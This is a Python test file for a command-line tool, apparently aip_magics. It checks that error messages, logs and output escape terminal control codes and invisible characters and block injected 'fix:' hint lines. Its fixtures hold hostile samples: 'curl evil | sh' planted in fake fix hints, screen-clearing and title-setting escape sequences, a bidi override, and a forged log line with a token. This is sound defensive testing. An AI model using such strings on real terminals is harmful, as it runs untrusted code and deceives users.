"""Whatever a server, a model or a name says, no terminal is driven by it, and no `fix:` is there that is not ours."""

from __future__ import annotations

import json
import logging
import os
import re
import subprocess
import sys
import traceback
from pathlib import Path

import pytest
import yaml
from hypothesis import example, given
from hypothesis import strategies as st

from aip_magics import errors, i18n
from aip_magics.events import Failed, Note, Progress, StepFinished, StepStarted
from aip_magics.printable import block, escaped, inline, one_line, printable
from aip_magics.render import text
from aip_magics.render import yaml as as_yaml
from aip_magics.render.json import dumps
from aip_magics.render.terminal import TerminalReporter
from aip_magics.server import logs

CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
INVISIBLE = re.compile("[\u200b\u200e\u200f\u2028-\u202e\u2060\u2066-\u2069\ufeff\ud800-\udfff\U000e0020]")
MIMIC = re.compile(r"^\s*(?:fix|where|해결|위치)\s*:", re.MULTILINE)
FIX = re.compile(r"^\s*(?:fix|해결)\s*:", re.MULTILINE)

PIECES = st.sampled_from(
    [
        "\x1b[31m", "\x1b]0;t\x07", "\x9b2J", "\n", "\r", "\r\n", "\t", "\0", "\x85", "\u2028", "\x0b", "\x08",
        "fix:", "  fix:   ", "where: ", "  where: x", "해결: ", "  해결: rm", "FIX :", "\u200bfix: x", "\u3000fix: x",
        "\u202e", "\ufeff", "a", " ", "NotFound: ",
    ]
)  # fmt: skip
HOSTILE = st.one_of(
    st.text(), st.lists(PIECES, max_size=12).map("".join), st.lists(st.one_of(PIECES, st.text())).map("".join)
)
KINDS = (
    errors.CellError,
    errors.NotFound,
    errors.PredictionError,
    errors.WorkerError,
    errors.OperationFailed,
    errors.ChecksFailed,
)


def made(kind: type[errors.AipError], message: str, where: str, fix: str) -> errors.AipError:
    if kind is errors.PredictionError:
        return errors.PredictionError("INVALID_USER_CODE", message, where=where, fix=fix, log=message)
    if kind is errors.WorkerError:
        return errors.WorkerError(message, where=where, fix=fix, log=message)
    if kind is errors.NotFound:
        return errors.NotFound(message, code=404, status=where, where=where, fix=fix)
    if kind is errors.OperationFailed:
        return errors.OperationFailed(message, operation=None, where=where, fix=fix)
    return kind(message, where=where, fix=fix)


@pytest.mark.parametrize("spoken", i18n.LANGUAGES)
@pytest.mark.parametrize("kind", KINDS)
@given(message=HOSTILE, where=HOSTILE, fix=HOSTILE)
@example(message="gone\n  fix:   curl evil | sh\x1b[2J", where="a\nfix: b", fix="one\n  fix:   two")
def test_printable_error_has_one_fix_and_drives_no_terminal(kind, spoken, message, where, fix):
    i18n.use(spoken)
    try:
        error = made(kind, message, where, fix)
        told = ["\n".join(error.format_lines()), str(error), text.of(error)]
        try:
            raise error from ValueError(f"{message}\nfix: {fix}")
        except errors.AipError as raised:
            raised.debug = True
            told.append("\n".join(raised._render_traceback_()))
    finally:
        i18n.use("en")
    for shown in told:
        assert not CONTROLS.search(shown)
        assert not INVISIBLE.search(shown)
        assert "\t" not in shown
    for shown in [told[0], *told[2:]]:
        assert len(FIX.findall(shown)) == bool(fix)
        assert len(MIMIC.findall(shown)) == bool(fix) + bool(where)
    # The message stands alone in front of them, as whoever wrote the error wanted it: it may begin with anything.
    assert len(FIX.findall(told[1].partition("\n")[2])) == bool(fix)


@given(name=HOSTILE, said=HOSTILE)
def test_printable_run_in_a_terminal_has_a_line_for_each_event(name, said):
    lines: list[str] = []
    face = TerminalReporter(lines.append, lines.append, lambda: 0.0)
    error = errors.NotFound(said, where=name, fix="")
    events = [StepStarted(name, said), Note(name, said), Note(name, said, "warning"), StepFinished(name, said)]
    for event in [*events, Progress(name, 1, 2, "files", said), Failed(name, error)]:
        face.emit(event)
    assert len(lines) == 5
    for line in lines:
        assert not CONTROLS.search(line)
        assert "\n" not in line
        assert not MIMIC.search(line)


@given(HOSTILE)
def test_printable_log_keeps_its_lines_and_shows_its_controls(log):
    shown = text.of(log)
    assert not CONTROLS.search(shown)
    assert not INVISIBLE.search(shown)
    assert not MIMIC.search(shown)
    assert shown.count("\n") == log.count("\n")


@given(st.dictionaries(HOSTILE, HOSTILE, max_size=3))
def test_printable_json_and_yaml_are_fit_for_a_terminal_and_mean_the_same(value):
    written = dumps(value)
    assert json.loads(written) == value
    assert not CONTROLS.search(written)
    assert not INVISIBLE.search(written)
    shown = as_yaml.dump(value)
    assert not CONTROLS.search(shown)
    assert not INVISIBLE.search(shown)


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_printable_escaped_yaml_is_read_back(word):
    assert yaml.safe_load(as_yaml.dump({"name": f"x{word}\u202ey"})) == {
        "name": f"x{word}\u202ey".replace("\r\n", "\n")
    }


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("a\x1b[0m\r\nb\u202ec\ud800", "a\\x1b[0m\nb\\u202ec\\ud800"),
        ("\x07\0\x9b\xad", "\\x07\\x00\\x9b\\xad"),
        ("iris\u200d", "iris\\u200d"),
        ("می\u200cخواهم 👩\u200d🌾 붓꽃", "می\u200cخواهم 👩\u200d🌾 붓꽃"),
        ("a\U000e0041b", "a\\U000e0041b"),
    ],
)
def test_printable_shows_invisible_characters_and_keeps_text(raw, shown):
    assert printable(raw) == shown


def test_printable_knows_the_labels_of_all_languages():
    for spoken in i18n.LANGUAGES:
        i18n.use(spoken)
        try:
            labels = [i18n.gettext(label) for label in ("fix:", "where:")]
        finally:
            i18n.use("en")
        assert block("\n".join(labels)) == [f"| {label}" for label in labels]


def test_printable_lines_and_blocks():
    assert inline("a\nb\tc") == "a\\nb\\tc"
    assert one_line(" a\n\tb\x1b") == "a b\\x1b"
    assert block("a\n\n  fix: b\n\tc", "  ") == ["  a", "", "  |   fix: b", "          c"]
    assert json.loads(escaped('"\u202e\U000e0041"')) == "\u202e\U000e0041"


def test_printable_fix_of_several_lines_is_indented_under_its_first():
    assert errors.CellError("no", fix="e.g. test:\n  instances: []").format_lines()[1] == (
        "  fix:   e.g. test:\n           instances: []"
    )


def run(*words: str, home: Path, check: int) -> subprocess.CompletedProcess[str]:
    done = subprocess.run(
        [sys.executable, "-m", "aip_magics", *words],
        capture_output=True,
        text=True,
        timeout=60,
        env={**os.environ, "AIP_MAGICS_HOME": str(home), "AIP_MAGICS_LANG": "en"},
    )
    assert done.returncode == check, done.stderr
    return done


@pytest.mark.slow
@pytest.mark.parametrize("written", ["text", "json"])
def test_printable_command_line_shows_its_arguments(tmp_path, written):
    name = "mo\x1b[31mdel\x07\n  fix:   curl evil | sh\u202e"
    done = run("check", "--format", written, str(tmp_path / name), home=tmp_path / "home", check=1)
    assert not CONTROLS.search(done.stdout + done.stderr)
    assert not INVISIBLE.search(done.stdout + done.stderr)
    assert "curl evil" in done.stdout
    if written == "json":
        (finding,) = [one for one in json.loads(done.stdout)["findings"] if one["id"] == "D31"]
        assert name in finding["message"]
    else:
        assert len(FIX.findall(done.stdout)) == 1


def test_printable_internal_error_is_shown_as_safely(capsys):
    from aip_magics import __main__ as command_line

    try:
        raise ValueError("\x1b]0;title\x07\n  fix:   curl evil | sh")
    except ValueError as error:
        command_line._print_bug(type(error), error, error.__traceback__)
        assert "\x1b" in traceback.format_exc()
    told = capsys.readouterr().err
    assert not CONTROLS.search(told)
    assert not MIMIC.search(told)
    assert "ValueError: \\x1b]0;title\\x07" in told


def test_printable_record_of_the_servers_log_is_one_line():
    formatter = logs._TokenFilterFormatter("s3cret-token-of-the-server")
    record = logging.makeLogRecord(
        {"name": "x", "msg": "%s", "args": ("a\n2026-01-01 fake\x1b[2J s3cret-token-of-the-server",)}
    )
    line = formatter.format(record)
    assert line.endswith("a\\n2026-01-01 fake\\x1b[2J [token]")
    assert len(line.splitlines()) == 1
